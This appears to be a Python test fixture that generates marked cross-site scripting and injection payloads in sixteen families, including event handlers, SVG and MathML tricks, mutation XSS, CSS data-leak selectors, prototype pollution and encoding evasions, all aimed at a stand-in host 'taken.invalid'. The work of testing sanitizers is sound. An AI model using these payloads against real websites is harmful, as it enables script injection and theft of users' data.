"""Texts that try to become more than text in a browser: made out of families, each with a number of its own.

What a payload does when it succeeds can be told: its script calls ``hit``, its element has an id or a class that begins with ``taken``, its
style sets ``--taken``, and its address lies on a machine that does not exist.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count
from random import Random

FOREIGN = "taken.invalid"
_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"
_BREAKS = "\u2028\u2029\u0085\u000b\u000c"
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbeforetoggle",
    "onpointerenter",
    "onpointerrawupdate",
    "onscrollend",
    "ontransitionend",
    "onbegin",
    "oncut",
    "onpaste",
    "onwheel",
    "oncontentvisibilityautostatechange",
    "onsecuritypolicyviolation",
]
# What markup may stand in when the payload comes: each tries to get out of it.
_OUT_OF = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</template>", "</noscript>", "</select>",
    "</option>", "</td></tr></table>", "</button>", "</svg>", "</math>", "*/", '"}', "\\\"", "%22%3E", "&quot;&gt;", "\x00", "\ud7ff",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """``mark`` stands in the text as it is, and in no other."""

    mark: str
    family: str
    text: str


def payloads(times: int, dice: Random) -> list[Payload]:
    """``times`` payloads that differ in more than their mark, the families in turn."""
    found: list[Payload] = []
    seen: set[str] = set()
    makers = list(_FAMILIES.items())
    for number in count():
        family, make = makers[number % len(makers)]
        mark = f"x{len(found):04}x"
        text = make(f"hit('{mark}')", f"//{FOREIGN}/{mark}", mark, dice)
        shape = text.replace(mark, "")
        if shape in seen or number > 50 * times:
            text += f" {dice.randrange(10**6)}"
            shape = text.replace(mark, "")
        if shape not in seen:
            seen.add(shape)
            found.append(Payload(mark, family, text if mark in text else f"{mark} {text}"))
        if len(found) == times:
            return found
    raise AssertionError


def _cased(word: str, dice: Random) -> str:
    return "".join(dice.choice((letter.upper(), letter)) for letter in word) if dice.random() < 0.4 else word


def _gap(dice: Random) -> str:
    return dice.choice((" ", "/", "\t", " \f", "/ /", "  "))


def _quoted(value: str, dice: Random) -> str:
    if "'" not in value and '"' not in value and " " not in value and dice.random() < 0.3:
        return value
    return f'"{value}"' if '"' not in value else f"'{value}'"


def _entities(text: str, dice: Random) -> str:
    forms: tuple[Callable[[str], str], ...] = (
        lambda letter: f"&#{ord(letter)};",
        lambda letter: f"&#x{ord(letter):x};",
        lambda letter: f"&#{ord(letter):07}",
    )
    return "".join(dice.choice(forms)(letter) if dice.random() < 0.3 else letter for letter in text)


def _address(act: str, dice: Random) -> str:
    scheme = dice.choice(
        ("javascript:", "vbscript:", "data:text/html,<script>", "java\tscript:", "\x01javascript:", "javascript&colon;")
    )
    end = "</script>" if scheme.startswith("data") else ""
    written = _cased(scheme, dice) + act + end
    return _entities(written, dice) if dice.random() < 0.4 else written


def _script(act: str, away: str, mark: str, dice: Random) -> str:
    body = dice.choice((act, f"/*{mark}*/{act}//", f"window['h'+'it']('{mark}')", f"top.{act}", f"<!--\n{act}"))
    where = dice.choice(
        ("", f' src="{away}.js"', " type=module", f' src="data:text/javascript,{act}"', " nonce", " defer")
    )
    return f"{dice.choice(_OUT_OF)}<{_cased('script', dice)}{where}>{body}</{_cased('script', dice)}{dice.choice(('>', ' >', '/x>'))}"


def _handler(act: str, away: str, mark: str, dice: Random) -> str:
    element = dice.choice(
        ("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee", "select autofocus", "iframe",
         "object data=x", "div contenteditable", "a href=#", "style", "link rel=stylesheet href=x", "x", "button popovertarget=p", "image src=x")
    )  # fmt: skip
    event = _cased(dice.choice(_EVENTS), dice)
    return f"{dice.choice(_OUT_OF)}<{_cased(element.split()[0], dice)}{_gap(dice)}{' '.join(element.split()[1:])} id=taken{mark} {event}={_quoted(act, dice)}>"


def _svg(act: str, away: str, mark: str, dice: Random) -> str:
    inner = dice.choice(
        (f"<script>{act}</script>", f"<animate onbegin=\"{act}\" attributeName=x dur=1s>", f'<a xlink:href="{_address(act, dice)}"><text>a</text></a>',
         f'<use href="{away}.svg#a"/>', f'<image href="{away}.png"/>', f"<foreignObject><body onload=\"{act}\"></foreignObject>",
         f'<set attributeName="href" to="{_address(act, dice)}"/>', f"<style>*{{--taken:{mark}}}</style>", f"<title><img src=x onerror=\"{act}\"></title>")
    )  # fmt: skip
    return f'{dice.choice(_OUT_OF)}<svg id="taken{mark}">{inner}</svg>'


def _math(act: str, away: str, mark: str, dice: Random) -> str:
    holder = dice.choice(("mi", "mo", "mtext", "ms", "annotation-xml encoding=text/html", "mglyph"))
    inner = dice.choice(
        (
            f'<img src=x onerror="{act}">',
            f'<style><img src=x onerror="{act}"></style>',
            f'<a href="{_address(act, dice)}">a</a>',
        )
    )
    return f"<math id=taken{mark}><{holder}>{inner}</{holder.split()[0]}></math>"


def _embedded(act: str, away: str, mark: str, dice: Random) -> str:
    return dice.choice(_OUT_OF) + dice.choice(
        (f'<iframe id=taken{mark} src="{_address(act, dice)}"></iframe>', f"<iframe id=taken{mark} srcdoc=\"<script>parent.{act}</script>\"></iframe>",
         f'<object id=taken{mark} data="{away}.swf"></object>', f'<embed id=taken{mark} src="{_address(act, dice)}">',
         f'<frameset><frame id=taken{mark} src="{away}"></frameset>', f'<portal id=taken{mark} src="{away}"></portal>',
         f'<applet id=taken{mark} code="{away}.class"></applet>', f'<video id=taken{mark}><source src="{away}.mp4" onerror="{act}"></video>')
    )  # fmt: skip


def _head(act: str, away: str, mark: str, dice: Random) -> str:
    return dice.choice(_OUT_OF) + dice.choice(
        (f'<base id=taken{mark} href="{away}/">', f'<meta id=taken{mark} http-equiv=refresh content="{dice.randrange(3)};url={away}">',
         f'<meta id=taken{mark} http-equiv="Content-Security-Policy" content="script-src *">', f'<link id=taken{mark} rel=stylesheet href="{away}.css">',
         f'<link id=taken{mark} rel="{dice.choice(("prefetch", "preload", "dns-prefetch", "preconnect", "import", "icon", "manifest"))}" href="{away}">',
         f'<meta id=taken{mark} http-equiv=set-cookie content="taken=1">', f'<script id=taken{mark} type=importmap>{{"imports":{{"x":"{away}"}}}}</script>',
         f'<script id=taken{mark} type=speculationrules>{{"prefetch":[{{"urls":["{away}"]}}]}}</script>')
    )  # fmt: skip


def _form(act: str, away: str, mark: str, dice: Random) -> str:
    return dice.choice(_OUT_OF) + dice.choice(
        (f'<form id=taken{mark} action="{away}"><input type=submit value="送信"></form>', f'<button id=taken{mark} formaction="{_address(act, dice)}">押す</button>',
         f'<isindex id=taken{mark} action="{away}" type=image>', f'<input id=taken{mark} type=image src="{away}.png" formaction="{away}">',
         f'<a id=taken{mark} href="{away}" ping="{away}" target=_blank>詳細</a>', f'<map><area id=taken{mark} href="{_address(act, dice)}" shape=default></map>',
         f'<form id=taken{mark} name=policyQA><input name=presses></form>', f"<img id=taken{mark} name=getElementById src=x>")
    )  # fmt: skip


def _style(act: str, away: str, mark: str, dice: Random) -> str:
    rule = dice.choice(
        (f"*{{--taken:{mark}}}", f"@import url({away}.css);", f"*{{background:url({away}.png)}}", f"@font-face{{font-family:x;src:url({away}.woff)}}",
         f"*{{width:expression({act})}}", f"*{{behavior:url({away}.htc)}}", f"*{{-moz-binding:url({away}.xml#a)}}", f"input[value^=a]{{background:url({away})}}",
         "@keyframes taken{}*{animation:taken 1s}", f":root{{--taken:{mark};position:fixed}}", f"*{{list-style:image-set('{away}' 1x)}}")
    )  # fmt: skip
    return dice.choice(
        (f"{dice.choice(_OUT_OF)}<style>{rule}</style>", f'" style="--taken:{mark};{rule[2:-1]}', f"}}{rule}{{", f'<p id=taken{mark} style="--taken:{mark};background:url({away})">',
         f"</style>{rule}<style>", f"<style media=all>{_cased(rule, dice)}")
    )  # fmt: skip


def _markdown(act: str, away: str, mark: str, dice: Random) -> str:
    address = dice.choice((away, _address(act, dice), f"<{away}>", f"https:{away}"))
    return dice.choice(
        (f"[{mark}]({address})", f"![{mark}]({address})", f"[{mark}][r]\n\n[r]: {address}", f"<https:{away}>", f"https:{away}",
         f'[{mark}]({address} "a\\" onmouseover=\\"{act}")', f"[![{mark}]({away}.png)]({address})", f"```html\n<script>{act}</script>\n```",
         f"`<img src=x onerror=\"{act}\">`", f"| a | b |\n|---|---|\n| <img src=x onerror=\"{act}\"> | {mark} |", f"# {mark} <script>{act}</script>",
         f"[{mark}](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)", f"<details open ontoggle=\"{act}\"><summary>{mark}</summary></details>",
         f"[^1]: <img src=x onerror=\"{act}\"> {mark}", f"mailto:{mark}@{FOREIGN}", f"www.{FOREIGN}/{mark}", f"[x]: # '{mark}'", f"&lt;script&gt;{act}&lt;/script&gt;")
    )  # fmt: skip


def _mathematics(act: str, away: str, mark: str, dice: Random) -> str:
    return dice.choice(
        (f"$\\href{{{_address(act, dice)}}}{{{mark}}}$", f"$$\\url{{{away}}}$$", f"\\(\\htmlData{{onclick={act}}}{{{mark}}}\\)", f"$\\includegraphics{{{away}.png}}$",
         f"\\[\\style{{--taken:{mark}}}{{a}}\\]", f"$\\unicode{{x3cscript}}{act}$", f"```mermaid\ngraph TD\n A[\"<img src=x onerror={act}>\"]\n click A \"{away}\" \"{mark}\"\n```",
         f"```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph LR; A-->B[{mark}]; click A call hit('{mark}')\n```", f"$\\htmlClass{{taken}}{{{mark}}}$",
         f"$\\text{{<img src=x onerror=\"{act}\">}}$")
    )  # fmt: skip


def _template(act: str, away: str, mark: str, dice: Random) -> str:
    inner = dice.choice(
        (
            act,
            f'constructor.constructor("{act}")()',
            f"value}}${{{act}",
            f'#with "s" as |x|}}}}{{{{x.constructor {act}',
            f"7*7}}{mark}",
        )
    )
    opened, closed = dice.choice(
        (
            ("{{", "}}"),
            ("${", "}"),
            ("{{{", "}}}"),
            ("<%=", "%>"),
            ("#{", "}"),
            ("[[", "]]"),
            ("{%", "%}"),
            ("@children", ""),
            ("`${", "}`"),
            ("{{!--", "--}}"),
        )
    )
    return f"{dice.choice(_OUT_OF)}{mark}{opened}{inner}{closed}"


def _json(act: str, away: str, mark: str, dice: Random) -> str:
    return dice.choice(
        (f'{{"__proto__":{{"taken":"{mark}"}}}}', f'"}},"__proto__":{{"taken":"{mark}"}},"x":{{"', f'{{"constructor":{{"prototype":{{"taken":"{mark}"}}}}}}', f"__proto__ {mark}",
         f'";{act};//', f"\\u003cscript\\u003e{act}\\u003c/script\\u003e", f"';{act};'", f"</script><script>{act}</script>", f"<!--<script>{mark}", f"{dice.choice(_BREAKS)}{act}//",
         f"\\x3cimg src=x onerror={act}\\x3e", f'{mark}\\"]}}]', f"constructor.prototype.taken={mark}", f'{{"type":"html","value":"<img src=x onerror={act}>"}}',
         f"data-event=\"select\" data-value='{mark}'", f'" data-event="delete" data-value="{{&quot;document&quot;:&quot;{mark}&quot;}}" class="taken')
    )  # fmt: skip


def _mutation(act: str, away: str, mark: str, dice: Random) -> str:
    image = f'<img src=x id=taken{mark} onerror="{act}">'
    return dice.choice(
        (f"<math><mtext><table><mglyph><style><!--</style>{image}", f"<svg></p><style><a title=\"</style>{image}\">", f"<noscript><p title=\"</noscript>{image}\">",
         f"<form><math><mtext></form><form><mglyph><style></math>{image}", f"<listing>&lt;img src=x onerror={act}&gt;</listing>", f"<textarea><!--</textarea>{image}-->",
         f"<select><template><style><!--</style><a rel=\"--></style></template></select>{image}\">", f"<xmp><p title=\"</xmp>{image}\">", f"<!--><{image}-->", f"<![CDATA[>{image}]]>",
         f"<?xml >{image}?>", f"</p><table><td>{image}", f"<template><s>{image}</s></template>", f"<plaintext id=taken{mark}>", f"<svg><foreignObject><math><mi><mglyph><svg>{image}",
         f"<a id=taken{mark}><a id=taken{mark} name=hidden>", f"<div><template shadowrootmode=open>{image}</template></div>", f"<b{'<i' * dice.randrange(3, 30)}{image}")
    )  # fmt: skip


def _hidden(act: str, away: str, mark: str, dice: Random) -> str:
    text = f"<{_cased('img', dice)} src=x onerror={act}>"
    odd = dice.choice(
        (
            _ZERO_WIDTH,
            _BREAKS,
            "\u202e\u2066\u2069\u061c",
            "\U000e003c\U000e0073",
            "＜＞＂＇",
            "\ufe64\ufe65",
            "\u0000\u0008",
            "\ufffd\ufffe",
        )
    )
    letters = [letter + (dice.choice(odd) if dice.random() < 0.25 else "") for letter in text]
    return dice.choice(
        (mark + "".join(letters), f"{mark}{dice.choice(odd)}{text}", f"{mark} ＜script＞{act}＜／script＞", f"{mark} +ADw-script+AD4-{act}+ADw-/script+AD4-", f"{mark} %3Cscript%3E{act}%3C/script%3E",
         f"{mark} {_entities(text, dice)}", f"{mark} {text.encode('utf-8').hex()} {text}", f"{mark} ¼script¾{act}¼/script¾", f"{mark}\u001b$B{text}\u001b(B", f"{mark} {text.encode('utf-16-le').decode('latin-1')}")
    )  # fmt: skip


def _attribute(act: str, away: str, mark: str, dice: Random) -> str:
    quote = dice.choice(('"', "'", "`", "", "&quot;", "&#34;", '\\"'))
    event = _cased(dice.choice(_EVENTS), dice)
    return f"{mark}{quote}{_gap(dice)}autofocus tabindex=1 id=taken{mark} {event}={_quoted(act, dice)} x={quote}"


def _linked(act: str, away: str, mark: str, dice: Random) -> str:
    return f"{dice.choice(_OUT_OF)}<a id=taken{mark} {dice.choice(('href', 'xlink:href', 'HREF'))}={_quoted(_address(act, dice), dice)}>詳しくは{mark}</a>"


_FAMILIES: dict[str, Callable[[str, str, str, Random], str]] = {
    "script": _script,
    "handler": _handler,
    "svg": _svg,
    "math": _math,
    "embedded": _embedded,
    "head": _head,
    "form": _form,
    "style": _style,
    "markdown": _markdown,
    "mathematics": _mathematics,
    "template": _template,
    "json": _json,
    "mutation": _mutation,
    "hidden": _hidden,
    "attribute": _attribute,
    "link": _linked,
}


def file_name(payload: Payload, ending: str) -> str:
    """A name that a file may have: no separator, no NUL, at most 200 bytes; the mark comes first, where the end is cut."""
    text = f"{payload.mark} {payload.text}".replace("/", "\u2215").translate(dict.fromkeys(range(32)))
    return text.encode("utf-8", "replace")[: 200 - len(ending)].decode("utf-8", "ignore").rstrip(" .") + ending


def families() -> Iterator[str]:
    """The names of the families."""
    return iter(_FAMILIES)
